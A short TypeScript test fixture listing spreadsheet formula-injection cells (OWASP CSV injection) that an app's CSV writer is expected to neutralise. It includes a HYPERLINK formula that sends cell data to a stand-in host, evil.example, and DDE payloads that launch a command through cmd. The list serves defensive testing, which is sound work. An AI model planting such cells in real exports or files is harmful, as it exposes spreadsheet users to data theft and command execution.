/**
 * Cells that spreadsheets run as formulas (OWASP "CSV injection"), one for each leading character
 * the rule names: what the tests, the hostile corpus and the e2e specs put into data and expect
 * every CSV the app writes to neutralise (lib/core/util/safe-csv.ts).
 */
export const FORMULA_CELLS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "@SUM(1+1)",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1",
  "-",
  "@",
];
